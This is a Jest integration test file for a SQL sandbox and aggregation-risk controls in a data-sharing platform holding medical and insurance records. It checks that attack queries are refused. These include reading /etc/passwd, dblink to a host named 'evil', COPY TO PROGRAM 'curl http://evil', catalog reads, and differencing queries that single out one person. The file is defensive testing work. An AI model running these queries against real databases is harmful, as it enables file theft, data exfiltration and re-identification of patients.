import { Client } from 'pg';
import { eventually, startTestPlatform, TestPlatform } from '../../../test/test-platform';
import { SandboxRoles } from '../src/sandbox/sandbox-roles';
import { SandboxService } from '../src/sandbox/sandbox.service';
import { SECURITY_SETTINGS, SecuritySettings } from '../src/security/security.settings';
import { SharingClock } from '../src/sharing.settings';
import { Actors, Api, eventsNamed, loginAll } from './sharing-fixtures';
import { activeGrant, dataset, deptIds, dropSandboxRoles, Fixture, idOf, landVersion, PEOPLE_ITEMS, peopleRows, pendingRequest } from './security-fixtures';

/**
 * 数据沙箱 (可用不可见) and 聚合风险: each attack of issue 10 is a test that fails if its protection goes.
 * Minimum group size k = 5 (SECURITY_MIN_K default).
 */
let p: TestPlatform;
let a: Actors;
let rsj: Api;
let depts: Record<string, string>;
let people: Fixture;
let visits: Fixture;
let grant: string;
let visitsGrant: string;
let settings: SecuritySettings;
const grants: string[] = [];
const ALL = PEOPLE_ITEMS.map((i) => i.name);

beforeAll(async () => {
  p = await startTestPlatform();
  a = await loginAll(p);
  rsj = new Api(p.baseUrl, 'sharing', a.rsjOp);
  depts = await deptIds(p);
  settings = p.server.apps.sharing.get(SECURITY_SETTINGS);
  people = await dataset(p, depts.scjg, '居民就诊信息', PEOPLE_ITEMS, peopleRows());
  visits = await dataset(
    p,
    depts.scjg,
    '医保结算信息',
    [
      { name: '证件号', personal: true, type: 'text' },
      { name: '结算金额', personal: false, type: 'numeric' },
    ],
    Array.from({ length: 300 }, (_, i) => [idOf(i), i * 10]),
  );
  grant = await activeGrant(p, people, depts.rsj, depts.scjg, ALL);
  visitsGrant = await activeGrant(p, visits, depts.rsj, depts.scjg, ['证件号', '结算金额']);
  grants.push(grant, visitsGrant);
}, 180_000);

afterAll(async () => {
  p?.server.apps.sharing.get(SharingClock).set(undefined);
  await p?.close();
  await dropSandboxRoles(grants);
});

const job = (sql: string, tables: Record<string, string> = { people: grant }, api = rsj, extra: Record<string, unknown> = {}) => api.call('POST', '/sandbox/jobs', { tables, sql, ...extra });

async function refused(sql: string, code: string, tables?: Record<string, string>): Promise<any> {
  const res = await job(sql, tables);
  expect({ status: res.status, code: res.body?.code }).toEqual({ status: code === 'SANDBOX_GRANT_INVALID' ? 403 : 422, code });
  expect(res.headers.get('content-type')).toContain('application/problem+json');
  expect(res.body.message.zh).toBeTruthy();
  expect(res.body.message.en).toBeTruthy();
  return res.body;
}

describe('released aggregates', () => {
  it('runs a GROUP BY under the grant, releases it, keeps it for download and audits it', async () => {
    const res = await job(`SELECT "区县", count(*) AS n, avg("费用") AS avg_fee FROM people GROUP BY "区县" ORDER BY "区县"`);
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ status: 'released', columns: ['区县', 'n', 'avg_fee'], resultRows: 6 });
    const result = await rsj.expect(200, 'GET', `/sandbox/jobs/${res.body.id}/result`);
    expect(result.rows).toHaveLength(6);
    expect(result.rows.every((r: unknown[]) => Number(r[1]) === 50)).toBe(true);
    // The hidden group size and row ids never leave.
    expect(result.columns).toEqual(['区县', 'n', 'avg_fee']);
    const csv = await rsj.call('GET', `/sandbox/jobs/${res.body.id}/result?format=csv`);
    expect(csv.headers.get('content-type')).toContain('text/csv');
    expect(csv.raw.toString('utf8')).toContain('区县,n,avg_fee');
    const events = await eventsNamed(p, 'security.sandbox.job');
    expect(events.map((e) => e.payload)).toEqual(expect.arrayContaining([expect.objectContaining({ jobId: res.body.id, status: 'released', resultRows: 6, sql: expect.stringContaining('GROUP BY') })]));
    const access = await eventsNamed(p, 'sharing.data.accessed');
    expect(access.map((e) => e.payload)).toEqual(expect.arrayContaining([expect.objectContaining({ kind: 'sandbox', grantId: grant, rowCount: 6 })]));
  });

  it('joins the datasets the department holds sandbox grants for', async () => {
    const res = await job(`SELECT p."区县", sum(v."结算金额") AS total, count(*) AS n FROM people p JOIN visits v ON v."证件号" = p."身份证号" GROUP BY p."区县"`, { people: grant, visits: visitsGrant });
    expect(res.status).toBe(201);
    expect(res.body.resultRows).toBe(6);
  });

  it('expires results after SECURITY_SANDBOX_RESULT_HOURS', async () => {
    const res = await job(`SELECT "性别", count(*) AS n FROM people GROUP BY "性别"`);
    expect(res.status).toBe(201);
    const clock = p.server.apps.sharing.get(SharingClock);
    clock.set(new Date(Date.now() + (settings.sandboxResultHours + 1) * 3_600_000));
    try {
      await new Api(p.baseUrl, 'sharing', a.rsjOp).problem(410, 'SANDBOX_RESULT_EXPIRED', 'GET', `/sandbox/jobs/${res.body.id}/result`);
      // The sweeper deletes the kept result itself; the job record (SQL, size, decision) stays for audit.
      expect(await p.server.apps.sharing.get(SandboxService).purgeExpired()).toBeGreaterThanOrEqual(1);
      const { rows } = await p.pool.query(`SELECT result, status, result_rows FROM sharing.sandbox_job WHERE id=$1`, [res.body.id]);
      expect(rows[0]).toEqual({ result: null, status: 'released', result_rows: 2 });
    } finally {
      clock.set(undefined);
    }
  });
});

describe('attacks', () => {
  it.each([
    [`INSERT INTO people ("区县") VALUES ('x')`],
    [`UPDATE people SET "费用" = 0`],
    [`DELETE FROM people`],
    [`DROP TABLE people`],
    [`CREATE TABLE leak AS SELECT * FROM people`],
    [`SELECT count(*) INTO leak FROM people`],
    [`SELECT "区县", count(*) FROM people GROUP BY "区县" FOR UPDATE`],
  ])('writes are refused: %s', async (sql) => {
    await refused(sql, 'SANDBOX_READ_ONLY');
    const { rows } = await p.pool.query(`SELECT count(*)::int AS n FROM sharing."${people.table}"`);
    expect(rows[0].n).toBe(300);
  });

  it.each([[`SELECT pg_read_file('/etc/passwd')`], [`SELECT count(*) AS n, lo_import('/etc/passwd') AS o FROM people`], [`SELECT dblink('host=evil', 'select 1')`], [`SELECT count(*) FROM people WHERE pg_sleep(60) IS NULL`]])(
    'functions that read files, the network or sleep are refused: %s',
    async (sql) => {
      await refused(sql, 'SANDBOX_FUNCTION_FORBIDDEN');
    },
  );

  it('COPY … PROGRAM is refused', async () => {
    await refused(`COPY people TO PROGRAM 'curl http://evil'`, 'SANDBOX_READ_ONLY');
  });

  it.each([[`SELECT count(*) FROM pg_catalog.pg_authid`], [`SELECT count(*) FROM pg_roles`], [`SELECT count(*) FROM information_schema.tables`], [`SELECT count(*) FROM ingest.dataset`], [`SELECT count(*) FROM sharing.grant_`]])(
    'system catalogs and other schemas are refused: %s',
    async (sql) => {
      await refused(sql, 'SANDBOX_TABLE_FORBIDDEN');
    },
  );

  it('the sandbox role itself can read only the granted tables (defence in depth)', async () => {
    await job(`SELECT count(*) AS n FROM people WHERE "诊断" = '高血压' AND "性别" = '男'`); // makes sure the role exists
    const c = new Client({ connectionString: p.db.url });
    await c.connect();
    try {
      await c.query('BEGIN READ ONLY');
      await c.query(`SET LOCAL ROLE "${p.server.apps.sharing.get(SandboxRoles).roleOf(grant)}"`);
      expect((await c.query(`SELECT count(*)::int AS n FROM sharing."${people.table}"`)).rows[0].n).toBe(300);
      await expect(c.query(`SELECT count(*) FROM sharing."${visits.table}"`)).rejects.toMatchObject({ code: '42501' });
      await c.query('ROLLBACK');
      for (const other of ['sharing.grant_', 'sharing.share_request', 'catalog.department']) {
        await c.query('BEGIN READ ONLY');
        await c.query(`SET LOCAL ROLE "${p.server.apps.sharing.get(SandboxRoles).roleOf(grant)}"`);
        await expect(c.query(`SELECT count(*) FROM ${other}`)).rejects.toMatchObject({ code: '42501' });
        await c.query('ROLLBACK');
      }
    } finally {
      await c.end();
    }
  });

  it('row-level output and raw personal fields are refused', async () => {
    await refused(`SELECT * FROM people`, 'SANDBOX_ROW_LEVEL');
    await refused(`SELECT "区县", "费用" FROM people`, 'SANDBOX_ROW_LEVEL');
    await refused(`SELECT "身份证号", count(*) AS n FROM people GROUP BY "身份证号"`, 'SANDBOX_SENSITIVE_OUTPUT');
    await refused(`SELECT max("身份证号") AS m FROM people`, 'SANDBOX_SENSITIVE_OUTPUT');
  });

  it('LIMIT 1 on a GROUP BY of a unique key cannot get one person out: every group needs k rows', async () => {
    const body = await refused(`SELECT count(*) AS n, avg("费用") AS fee FROM people GROUP BY "身份证号" LIMIT 1`, 'SANDBOX_GROUP_TOO_SMALL');
    expect(body.minK).toBe(5);
    await refused(`SELECT "出生年份", "区县", count(*) AS n FROM people GROUP BY 1, 2 ORDER BY 3 LIMIT 1`, 'SANDBOX_GROUP_TOO_SMALL');
    await refused(`SELECT sum("费用") AS fee FROM people WHERE "身份证号" = '${idOf(7)}'`, 'SANDBOX_GROUP_TOO_SMALL');
  });

  it('a condition inside an aggregate cannot pick one person out of a large group', async () => {
    await refused(`SELECT count(*) AS n, sum("费用") FILTER (WHERE "身份证号" = '${idOf(7)}') AS fee FROM people`, 'SANDBOX_CONDITIONAL_AGGREGATE');
    await refused(`SELECT count(*) AS n, sum(CASE WHEN "身份证号" = '${idOf(7)}' THEN "费用" ELSE 0 END) AS fee FROM people`, 'SANDBOX_CONDITIONAL_AGGREGATE');
  });

  it('differencing: an aggregate whose rows differ from a released one by fewer than k rows is refused', async () => {
    const first = await job(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒'`);
    expect(first.status).toBe(201);
    // The same aggregate minus one person: total − total' would be that person's fee.
    const body = await refused(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒' AND "身份证号" <> '${idOf(0)}'`, 'SANDBOX_DIFFERENCING');
    expect(body.earlierJobId).toBe(first.body.id);
    await refused(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒' AND "身份证号" NOT IN ('${idOf(0)}', '${idOf(3)}', '${idOf(6)}')`, 'SANDBOX_DIFFERENCING');
    // A genuinely different population (a whole district fewer: 16+ rows) is fine.
    const other = await job(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒' AND "区县" <> '鄂城区'`);
    expect(other.status).toBe(201);
    // Re-running the released query is the same answer, not a difference.
    expect((await job(`SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒'`)).status).toBe(201);
  });

  it('differencing holds for two such queries sent at the same time: one is released, the other refused', async () => {
    const base = `SELECT count(*) AS n, avg("费用") AS fee FROM people WHERE "诊断" = '高血压' AND "性别" = '女'`;
    const [x, y] = await Promise.all([job(base), job(`${base} AND "身份证号" <> '${idOf(1)}'`)]);
    expect([x.status, y.status].sort()).toEqual([201, 422]);
    expect([x.body, y.body].find((b) => b.code)?.code).toBe('SANDBOX_DIFFERENCING');
  });

  it('queries that would run for ever are stopped by the statement timeout', async () => {
    const before = settings.sandboxTimeoutMs;
    settings.sandboxTimeoutMs = 400;
    try {
      const started = Date.now();
      await refused(`SELECT count(*) AS n FROM people a, people b, people c, people d`, 'SANDBOX_TIMEOUT');
      expect(Date.now() - started).toBeLessThan(10_000);
    } finally {
      settings.sandboxTimeoutMs = before;
    }
    await refused(`SELECT pg_sleep(3600)`, 'SANDBOX_FUNCTION_FORBIDDEN');
    const [jobRow] = (await p.pool.query(`SELECT status, reason_code FROM sharing.sandbox_job WHERE sql LIKE '%people a, people b%'`)).rows;
    expect(jobRow).toEqual({ status: 'failed', reason_code: 'SANDBOX_TIMEOUT' });
  });

  it('a sandbox grant delivers no rows: records and downloads are refused under it', async () => {
    const cred = await rsj.expect(201, 'POST', `/grants/${grant}/credentials`);
    const read = await new Api(p.baseUrl, 'sharing').call('GET', `/records/${people.entryId}`, undefined, { 'x-grant-key': cred.key });
    expect([read.status, read.body.code]).toEqual([403, 'DELIVERY_METHOD_NOT_GRANTED']);
    const link = await rsj.call('POST', `/grants/${grant}/downloads`, { format: 'csv' });
    expect([link.status, link.body.code]).toEqual([403, 'DELIVERY_METHOD_NOT_GRANTED']);
  });

  it('a suspended sandbox grant runs nothing, and the sweeper strips its role’s privileges', async () => {
    const g = await activeGrant(p, people, depts.rsj, depts.scjg, ['区县', '费用']);
    grants.push(g);
    expect((await job(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, { people: g })).status).toBe(201);
    const scjgRev = new Api(p.baseUrl, 'sharing', a.scjgRev);
    await scjgRev.expect(200, 'POST', `/grants/${g}/suspend`, { reason: '核查使用情况' });
    await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'SANDBOX_GRANT_INVALID', { people: g });
    await p.server.apps.sharing.get(SandboxService).purgeExpired();
    const c = new Client({ connectionString: p.db.url });
    await c.connect();
    try {
      await c.query('BEGIN READ ONLY');
      await c.query(`SET LOCAL ROLE "${p.server.apps.sharing.get(SandboxRoles).roleOf(g)}"`);
      await expect(c.query(`SELECT count(*) FROM sharing."${people.table}"`)).rejects.toMatchObject({ code: '42501' });
      await c.query('ROLLBACK');
    } finally {
      await c.end();
    }
    // Resumed, it works again (the privilege is granted anew).
    await scjgRev.expect(200, 'POST', `/grants/${g}/resume`, {});
    expect((await job(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, { people: g })).status).toBe(201);
  });

  it('only the grantee department, only sandbox grants, only granted columns', async () => {
    const download = await activeGrant(p, people, depts.rsj, depts.scjg, ['区县'], 'download');
    grants.push(download);
    await refused(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, 'SANDBOX_GRANT_INVALID', { people: download });
    const gaj = new Api(p.baseUrl, 'sharing', a.gajOp);
    const res = await job(`SELECT "区县", count(*) AS n FROM people GROUP BY 1`, { people: grant }, gaj);
    expect([res.status, res.body.code]).toEqual([403, 'SANDBOX_GRANT_INVALID']);
    const narrow = await activeGrant(p, people, depts.rsj, depts.scjg, ['区县', '费用']);
    grants.push(narrow);
    await refused(`SELECT "诊断", count(*) AS n FROM people GROUP BY 1`, 'SANDBOX_COLUMN_FORBIDDEN', { people: narrow });
  });

  it('every refused or stopped job is stored and audited, and the security officer lists them (CSV too)', async () => {
    const events = (await eventsNamed(p, 'security.sandbox.job')).map((e) => e.payload);
    const codes = new Set(events.filter((e) => e.status !== 'released').map((e) => e.reasonCode));
    for (const c of ['SANDBOX_READ_ONLY', 'SANDBOX_FUNCTION_FORBIDDEN', 'SANDBOX_TABLE_FORBIDDEN', 'SANDBOX_GROUP_TOO_SMALL', 'SANDBOX_DIFFERENCING', 'SANDBOX_TIMEOUT']) expect(codes).toContain(c);
    const officer = new Api(p.baseUrl, 'sharing', a.auditor);
    const { items: listed, total } = await officer.expect<{ items: any[]; total: number }>(200, 'GET', '/security/sandbox-refusals?code=SANDBOX_DIFFERENCING');
    expect(listed.length).toBeGreaterThanOrEqual(2);
    expect(total).toBe(listed.length);
    expect(listed.every((j) => j.reasonCode === 'SANDBOX_DIFFERENCING')).toBe(true);
    const csv = await officer.call('GET', '/security/sandbox-refusals?format=csv&status=failed');
    expect(csv.raw.toString('utf8')).toContain('SANDBOX_TIMEOUT');
    // The audit service takes them into its log (none quarantined: each carries its actor).
    const audited = await eventually(async () => {
      const { rows } = await p.pool.query(`SELECT count(*)::int AS n FROM audit.audit_record WHERE event_name = 'security.sandbox.job'`);
      return rows[0].n >= events.length ? rows[0].n : undefined;
    }, 20_000);
    expect(audited).toBeGreaterThanOrEqual(events.length);
    const { rows: held } = await p.pool.query(`SELECT count(*)::int AS n FROM audit.quarantine WHERE event_name LIKE 'security.%'`);
    expect(held[0].n).toBe(0);
    // Departments do not see the officer's view.
    expect((await rsj.call('GET', '/security/sandbox-refusals')).status).toBe(403);
  });
});

describe('differencing across versions of a dataset', () => {
  // A dataset of its own, so the other tests' releases do not interfere.
  let clinic: Fixture;
  let g: string;
  const sql = `SELECT count(*) AS n, sum("费用") AS total FROM people WHERE "诊断" = '感冒'`;
  const v1 = peopleRows();
  const newcomer = (i: number) => [idOf(1000 + i), DISTRICT, '女', '1990', '感冒', 9_000 + i];
  const DISTRICT = '华容区';

  beforeAll(async () => {
    clinic = await dataset(p, depts.scjg, '门诊记录', PEOPLE_ITEMS, v1);
    g = await activeGrant(p, clinic, depts.rsj, depts.scjg, ALL);
    grants.push(g);
  });

  it('refuses the same aggregate after a new version added one person, although every _row moved', async () => {
    const first = await job(sql, { people: g });
    expect(first.status).toBe(201);
    // Version 2: one more 感冒 patient, inserted first, so every row id of version 1 shifts by one.
    clinic = await landVersion(p, clinic, 2, PEOPLE_ITEMS, [newcomer(0), ...v1]);
    const body = await refused(sql, 'SANDBOX_DIFFERENCING', { people: g });
    expect(body.earlierJobId).toBe(first.body.id);
    // Leaving the newcomer out gives exactly the released rows: the same answer, released again.
    expect((await job(`${sql} AND "身份证号" <> '${idOf(1000)}'`, { people: g })).status).toBe(201);
    // Leaving someone else out instead swaps one person for another: two rows from the released group.
    await refused(`${sql} AND "身份证号" <> '${idOf(0)}'`, 'SANDBOX_DIFFERENCING', { people: g });
  });

  it('refuses it after a version that changed one person’s value (same group size)', async () => {
    const changed = v1.map((r, i) => (i === 3 ? [...r.slice(0, 5), 99_999] : r));
    clinic = await landVersion(p, clinic, 3, PEOPLE_ITEMS, changed.reverse());
    await refused(sql, 'SANDBOX_DIFFERENCING', { people: g });
  });

  it('releases the unchanged group again, and a group that changed by k or more rows', async () => {
    clinic = await landVersion(p, clinic, 4, PEOPLE_ITEMS, [...v1].reverse());
    expect((await job(sql, { people: g })).status).toBe(201);
    clinic = await landVersion(p, clinic, 5, PEOPLE_ITEMS, [...v1, ...Array.from({ length: settings.minK }, (_, i) => newcomer(i))]);
    const grown = await job(sql, { people: g });
    expect(grown.status).toBe(201);
    expect(Number((await rsj.expect(200, 'GET', `/sandbox/jobs/${grown.body.id}/result`)).rows[0][0])).toBe(100 + settings.minK);
  });
});

describe('aggregation risk on approval', () => {
  it('refuses a grant whose quasi-identifiers single people out, names the combination, and audits it', async () => {
    const scjgRev = new Api(p.baseUrl, 'sharing', a.scjgRev);
    const requestId = await pendingRequest(p, people, depts.rsj, depts.scjg, ['区县', '性别', '出生年份', '诊断']);
    const body = await scjgRev.problem(422, 'AGGREGATION_RISK', 'POST', `/requests/${requestId}/approve`, {});
    expect(body.offending).toEqual(['区县', '性别', '出生年份'].filter((c) => body.offending.includes(c)));
    expect(body.offending).toContain('出生年份');
    expect(body.k).toBeLessThan(5);
    expect(body.requiredK).toBe(5);
    const request = await scjgRev.expect(200, 'GET', `/requests/${requestId}`);
    expect(request.status).toBe('pending');
    expect(await eventsNamed(p, 'security.aggregation.refused')).toEqual(expect.arrayContaining([expect.objectContaining({ payload: expect.objectContaining({ requestId, offending: body.offending }) })]));
    // Narrowed to coarse items (district + sex: groups of 25), the same request is approved.
    const approved = await scjgRev.expect(200, 'POST', `/requests/${requestId}/approve`, { items: ['区县', '性别', '诊断'] });
    expect(approved.status).toBe('approved');
    const { items: listed } = await new Api(p.baseUrl, 'sharing', a.admin).expect<{ items: any[] }>(200, 'GET', `/security/aggregation-refusals?entryId=${people.entryId}`);
    expect(listed[0]).toMatchObject({ requestId, requiredK: 5 });
    expect(listed[0].offending).toContain('出生年份');
  });

  it('counts the items the consumer already holds on the entry', async () => {
    const scjgRev = new Api(p.baseUrl, 'sharing', a.scjgRev);
    // rsj now holds 区县 + 性别 + 诊断 (above); asking for 出生年份 alone would complete the risky combination.
    const requestId = await pendingRequest(p, people, depts.rsj, depts.scjg, ['出生年份']);
    const body = await scjgRev.problem(422, 'AGGREGATION_RISK', 'POST', `/requests/${requestId}/approve`, {});
    expect(body.offending.length).toBeGreaterThanOrEqual(1);
    // A sandbox grant releases no rows: each query is checked instead.
    const sandboxRequest = await pendingRequest(p, people, depts.rsj, depts.scjg, ['区县', '性别', '出生年份'], 'sandbox');
    expect((await scjgRev.expect(200, 'POST', `/requests/${sandboxRequest}/approve`, {})).status).toBe('approved');
  });
});
